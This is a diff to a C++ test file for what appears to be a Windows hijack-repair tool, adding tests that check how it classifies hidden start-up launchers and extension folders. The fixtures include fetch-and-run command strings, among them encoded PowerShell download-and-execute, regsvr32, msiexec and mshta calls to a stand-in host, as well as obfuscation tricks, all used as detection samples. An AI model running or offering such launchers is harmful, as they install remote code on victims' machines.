@@ -6,6 +6,7 @@
 #include "repair/startup/ServedHijacks.h"
 #include "repair/startup/StartupCommand.h"
 #include "repair/startup/StartupFolderEntries.h"
+#include "repair/users/UserHives.h"
 #include "repair/users/UserPaths.h"
 #include "tests/native/RepairFixture.h"
 #include "text/Utf16.h"
@@ -34,6 +35,7 @@ std::wstring encoded(std::wstring_view script) {
 TEST(EncodedCommand, DecodesWhatPowerShellTakesAndNothingElse) {
     EXPECT_EQ(decodedPowerShellCommand(L"SQBFAFgA"), L"IEX");
     EXPECT_EQ(decodedPowerShellCommand(encoded(L"Start-Process chrome")), L"Start-Process chrome");
+    EXPECT_EQ(decodedPowerShellCommand(L"SQBF\r\nAFgA "), L"IEX");
     for (const auto bad : {L"SQBFAFg", L"SQB$AFgA", L"QQ==", L"", L"S=BFAFgA"}) {
         EXPECT_EQ(decodedPowerShellCommand(bad), std::nullopt) << testing::PrintToString(bad);
     }
@@ -50,7 +52,7 @@ struct TaskCommandCase {
 class TaskCommands : public testing::TestWithParam<TaskCommandCase> {};
 
 TEST_P(TaskCommands, AreJudgedByWhatTheirScriptDoes) {
-    EXPECT_EQ(taskCommandHijack(GetParam().command).has_value(), GetParam().hijack);
+    EXPECT_EQ(startupCommandHijack(GetParam().command).has_value(), GetParam().hijack);
 }
 
 const std::wstring kPowerShell = L"powershell.exe -NoProfile -WindowStyle Hidden -enc ";
@@ -139,6 +141,54 @@ INSTANTIATE_TEST_SUITE_P(
     [](const testing::TestParamInfo<CachedActionsCase>& info) { return info.param.name; });
 // clang-format on
 
+enum class Verdict { None, Repairable, ReportOnly };
+
+struct LauncherCase {
+    std::string name;
+    std::wstring command;
+    Verdict verdict;
+
+    friend void PrintTo(const LauncherCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class HiddenLaunchers : public testing::TestWithParam<LauncherCase> {};
+
+TEST_P(HiddenLaunchers, AreJudgedAsPowerShellAndWindowsReadThem) {
+    const auto hijack = startupCommandHijack(GetParam().command);
+    EXPECT_EQ(!hijack              ? Verdict::None
+              : hijack->repairable ? Verdict::Repairable
+                                   : Verdict::ReportOnly,
+              GetParam().verdict);
+}
+
+const std::wstring kFetchAndRun = encoded(L"IEX (New-Object Net.WebClient).DownloadString($u)");
+const std::wstring kQuietScript = encoded(L"Remove-Item $env:TEMP\\*.log");
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Commands, HiddenLaunchers,
+    testing::Values(
+        LauncherCase{"DoubleDash", L"powershell --EncodedCommand " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"EnDash", L"powershell \u2013enc " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"EmDash", L"powershell.exe \u2014e " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"HorizontalBar", L"pwsh \u2015ec " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"SlashThenDash", L"pwsh.exe /-encodedc " + encoded(L"Start-BitsTransfer $u $f; & $f"), Verdict::Repairable},
+        LauncherCase{"QuotedWithABlank", L"powershell \" -enc\" " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"PlainCommand", LR"x(powershell -nop -w hidden -c "Invoke-Expression (Invoke-RestMethod $u)")x", Verdict::Repairable},
+        LauncherCase{"PositionalScript", LR"(pwsh "i`ex $env:CARGA")", Verdict::Repairable},
+        LauncherCase{"HiddenBypassingUnreadable", L"powershell -w hidden -ep bypass -enc %%%%", Verdict::ReportOnly},
+        LauncherCase{"HiddenBypassingQuiet", L"powershell -win 1 -exec b -enc " + kQuietScript, Verdict::ReportOnly},
+        LauncherCase{"VisibleQuiet", L"powershell -ex bypass -enc " + kQuietScript, Verdict::None},
+        LauncherCase{"EncInTheCommandsScript", L"powershell -c Write-Output -enc x", Verdict::None},
+        LauncherCase{"ExplorerOpensAddress", L"explorer.exe https://anuncios.example", Verdict::Repairable},
+        LauncherCase{"ConhostHeadless", L"conhost.exe --headless --width 80 powershell -e " + kFetchAndRun, Verdict::Repairable},
+        LauncherCase{"CmdRunsPowerShell", LR"(cmd /d /c "pwsh -c iex $env:X")", Verdict::Repairable},
+        LauncherCase{"Regsvr32Scriptlet", L"regsvr32 /s /n /u /i:https://carga.example/a.sct scrobj.dll", Verdict::Repairable},
+        LauncherCase{"MsiexecFromTheWeb", L"msiexec /q /i https://carga.example/a.msi", Verdict::Repairable},
+        LauncherCase{"MshtaOverWebDav", LR"(mshta.exe \\carga.example@SSL\DavWWWRoot\a.hta)", Verdict::Repairable}),
+    [](const testing::TestParamInfo<LauncherCase>& info) { return info.param.name; });
+// clang-format on
+
 // The report shows what a hidden script does, on one line, so that the
 // extension it reinstalls is shown with the lock that forces it.
 TEST(StartupFindingText, NamesTheScriptAnEncodedCommandHides) {
@@ -150,23 +200,115 @@ TEST(StartupFindingText, NamesTheScriptAnEncodedCommandHides) {
                   L"   exit");
     EXPECT_EQ(startupFindingText(L"chrome.exe https://a.example", L"abre"),
               L"chrome.exe https://a.example; abre");
+    EXPECT_EQ(
+        encodedScriptOf(L"conhost --headless cmd /c \"pwsh \u2014ec " + encoded(L"exit") + L"\""),
+        L"exit");
 }
 
 TEST(ServedHijacks, AreTheProxysProgramAndTheLoadedExtensionsFolders) {
     const std::vector<Finding> found{
-        {FindingKind::Network, L"Red", L"HKCU\\...\\ProxyServer",
-         L"127.0.0.1:8080, servido por C:\\Users\\ana\\AppData\\p\\proxy.exe, en una carpeta "
-         L"que el usuario puede modificar",
-         true},
-        {FindingKind::Shortcut, L"Accesos", L"C:\\x.lnk",
-         L"chrome.exe --load-extension=C:\\Users\\ana\\ext,C:\\Otra; abre", true}};
-    const ServedHijacks served(found);
+        {FindingKind::Network,
+         L"Red",
+         L"HKCU\\...\\ProxyServer",
+         L"127.0.0.1:8080",
+         true,
+         PolicyHives::None,
+         {{L"C:\\Users\\ana\\AppData\\p\\proxy.exe"}, {}}},
+        {FindingKind::Shortcut,
+         L"Accesos",
+         L"C:\\x.lnk",
+         L"chrome.exe",
+         true,
+         PolicyHives::None,
+         {{}, {L"C:\\Users\\ana\\ext", L"C:\\Otra"}}},
+        {FindingKind::Shortcut,
+         L"Accesos",
+         L"C:\\y.lnk",
+         L"chrome.exe",
+         false,
+         PolicyHives::None,
+         {{L"C:\\Users\\ana\\solo\\s.exe"}, {L"C:\\Users\\ana\\informada"}}}};
+    const ServedHijacks served(found, {});
     EXPECT_TRUE(served.servedBy(L"c:\\users\\ana\\appdata\\p\\PROXY.exe -q"));
     EXPECT_TRUE(served.servedBy(L"\"C:\\Users\\ana\\ext\\actualiza.exe\""));
     EXPECT_TRUE(served.servedBy(L"C:\\Otra\\a.exe"));
     EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\extra\\a.exe"));
     EXPECT_FALSE(served.servedBy(L"\"C:\\Program Files\\Audio\\audio.exe\" /tray"));
+    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\solo\\s.exe"));
+    EXPECT_FALSE(served.servedBy(L"C:\\Users\\ana\\informada\\a.exe"));
 }
+
+TEST(SystemFolders, AreWindowssAndTheProfilesTheSystemNames) {
+    fake::FakePlatform platform;
+    platform.windowsFolder = L"E:\\WinNT";
+    platform.RegWrite(std::wstring(kProfileListKey) + L"S-1-5-21-1-2-3-1001\\ProfileImagePath",
+                      L"%SystemRoot%\\..\\Perfiles\\bea", RegistryType::String);
+    FailureLog failures(platform);
+    const auto system = SystemFolders::of(platform, failures);
+    EXPECT_TRUE(system.keepsProgram(L"E:\\WinNT\\System32\\a.exe"));
+    EXPECT_TRUE(system.refusesFolder(L"E:\\Perfiles\\bea"));
+    EXPECT_FALSE(system.refusesFolder(L"E:\\Perfiles\\bea\\ext"));
+    EXPECT_TRUE(failures.entries().empty());
+}
+
+TEST(SystemFolders, ThatCannotBeNamedAreAFailureAndTheStandardOnesStand) {
+    fake::FakePlatform platform;
+    platform.failWhere("GetSpecialFolder", L"", errc(std::errc::permission_denied));
+    platform.failWhere("RegReadTree", L"", errc(std::errc::permission_denied));
+    FailureLog failures(platform);
+    const auto system = SystemFolders::of(platform, failures);
+    EXPECT_EQ(failures.entries().size(), 2u);
+    EXPECT_TRUE(system.keepsProgram(L"C:\\Windows\\a.exe"));
+    EXPECT_TRUE(system.refusesFolder(L"C:\\Users\\ana"));
+}
+
+struct FolderCase {
+    std::string name;
+    std::wstring folder;
+    bool refused;
+
+    friend void PrintTo(const FolderCase& c, std::ostream* out) { *out << c.name; }
+};
+
+class ServedHijackFolders : public testing::TestWithParam<FolderCase> {};
+
+// Windows in E:\WinNT, a profile outside any Users folder.
+TEST_P(ServedHijackFolders, AreNeverTheSystemsNorAWholeProfile) {
+    const SystemFolders system(L"E:\\WinNT", {L"D:\\Perfiles\\bea"});
+    Finding shortcut;
+    shortcut.evidence.extensionFolders = {GetParam().folder};
+    const ServedHijacks served(std::vector{shortcut}, system);
+    EXPECT_EQ(system.refusesFolder(GetParam().folder), GetParam().refused);
+    EXPECT_EQ(!served.servedBy(LR"(")" + GetParam().folder + LR"(\a\b.exe")"), GetParam().refused);
+}
+
+// clang-format off
+INSTANTIATE_TEST_SUITE_P(
+    Folders, ServedHijackFolders,
+    testing::Values(
+        FolderCase{"DriveRoot", L"C:\\", true},
+        FolderCase{"UsersFolder", L"C:\\Users", true},
+        FolderCase{"WholeProfile", L"c:\\users\\ana\\", true},
+        FolderCase{"ProfilesLocalData", L"C:\\Users\\ana\\AppData\\Local", true},
+        FolderCase{"MicrosoftsUserPrograms", L"C:\\Users\\ana\\AppData\\Local\\Microsoft\\OneDrive", true},
+        FolderCase{"WindowsBelow", L"C:\\Windows\\System32", true},
+        FolderCase{"EnvironmentReference", L"%windir%", true},
+        FolderCase{"ProgramFilesBelow", L"C:\\Program Files\\Google", true},
+        FolderCase{"ProgramFiles32", L"D:\\Program Files (x86)", true},
+        FolderCase{"ProgramDataWhole", L"C:\\ProgramData", true},
+        FolderCase{"MicrosoftsSharedPrograms", L"C:\\ProgramData\\Microsoft\\Windows Defender", true},
+        FolderCase{"ProfileElsewhere", L"D:\\Perfiles\\bea", true},
+        FolderCase{"HoldsAProfile", L"D:\\Perfiles", true},
+        FolderCase{"WindowsElsewhere", L"E:\\WinNT\\System32", true},
+        FolderCase{"ClimbsToAProfile", L"C:\\Users\\ana\\ext\\..\\..\\bea", true},
+        FolderCase{"ShortName", L"C:\\PROGRA~1\\Google", true},
+        FolderCase{"NetworkShare", L"\\\\servidor\\c$\\ext", true},
+        FolderCase{"Relative", L"ext", true},
+        FolderCase{"InLocalData", L"C:\\Users\\ana\\AppData\\Local\\ext", false},
+        FolderCase{"InProgramData", L"C:\\ProgramData\\ext", false},
+        FolderCase{"InProfileElsewhere", L"D:\\Perfiles\\bea\\ext", false}),
+    [](const testing::TestParamInfo<FolderCase>& info) { return info.param.name; });
+// clang-format on
 
 TEST(StartupFilePaths, OnlyTaskAndStartupFilesAreInReach) {
     EXPECT_TRUE(isScheduledTaskFilePath(L"C:\\Windows\\Sysnative\\Tasks\\Carpeta\\Tarea"));
@@ -389,6 +531,66 @@ TEST_F(StartupSources, ACachedHijackDisablesItsTaskAndUndoEnablesIt) {
     EXPECT_FALSE(task(L"Microsoft\\Windows\\Limpieza")->enabled);
     bench.undo();
     EXPECT_TRUE(task(L"Microsoft\\Windows\\Limpieza")->enabled);
+}
+
+// A user's own preferences name folders as a hijacker's extension would, in
+// text only: no start-up program of Windows or of the user is taken for one
+// that serves it.
+TEST_F(StartupSources, AFindingsTextLinksNoStartUpProgram) {
+    bench.addFiles(
+        {{L"C:\\Users\\ana\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Preferences",
+          R"({"homepage":"https://inicio.example/--load-extension=C:\\Users,%windir%",)"
+          R"("homepage_is_newtabpage":false})"},
+         {kTasks + L"\\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
+          taskBytes(true, L"%windir%\\system32\\defrag.exe", L"-c -h -o -$")}});
+    bench.platform.RegWrite(
+        L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
+        LR"("C:\Users\ana\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background)",
+        RegistryType::String);
+    bench.platform.RegWrite(
+        L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth",
+        L"%windir%\\system32\\SecurityHealthSystray.exe", RegistryType::String);
+    bench.check();
+    ASSERT_TRUE(std::ranges::any_of(bench.view.lines, [](const std::wstring& line) {
+        return line.find(L"--load-extension=C:\\Users") != std::wstring::npos;
+    }));
+    for (const auto* place : {L"OneDrive", L"SecurityHealth", L"ScheduledDefrag"}) {
+        EXPECT_TRUE(std::ranges::none_of(bench.view.lines, [&](const std::wstring& line) {
+            return line.find(place) != std::wstring::npos;
+        })) << testing::PrintToString(place);
+    }
+}
+
+// A Run value loads an extension into the browser; the task that starts a
+// program from that folder is the hijack's too.
+TEST_F(StartupSources, ARunValuesLoadedExtensionLinksATaskInItsFolder) {
+    bench.platform.RegWrite(L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Ext",
+                            L"chrome.exe --load-extension=C:\\ProgramData\\ext",
+                            RegistryType::String);
+    bench.addFiles({{kTasks + L"\\Ext", taskBytes(true, L"C:\\ProgramData\\ext\\u.exe", L"")}});
+    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
+    EXPECT_TRUE(std::ranges::any_of(bench.view.questions.back(), [](const Finding& finding) {
+        return finding.place == L"\\Ext";
+    })) << testing::PrintToString(bench.view.questions.back());
+}
+
+// The browser's shortcut on the shared desktop loads an extension from the
+// user's folder; the program there that starts with the user is the hijack's.
+TEST_F(StartupSources, AShortcutsLoadedExtensionLinksTheProgramInItsFolder) {
+    const std::wstring desktop = L"C:\\Users\\Public\\Desktop";
+    bench.platform.RegWrite(
+        L"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\"
+        L"User Shell Folders\\Common Desktop",
+        desktop, RegistryType::String);
+    bench.addFiles({{desktop + L"\\Google Chrome.lnk",
+                     lnk(kChrome, L"--load-extension=C:\\Users\\ana\\AppData\\Local\\ext")}});
+    bench.platform.RegWrite(L"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Ext",
+                            L"C:\\Users\\ana\\AppData\\Local\\ext\\actualiza.exe",
+                            RegistryType::String);
+    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
+    EXPECT_TRUE(std::ranges::any_of(bench.view.questions.back(), [](const Finding& finding) {
+        return finding.kind == FindingKind::Startup && finding.place.ends_with(L"\\Run\\Ext");
+    })) << testing::PrintToString(bench.view.questions.back());
 }
 
 TEST_F(StartupSources, AreReportOnlyOnAManagedMachine) {
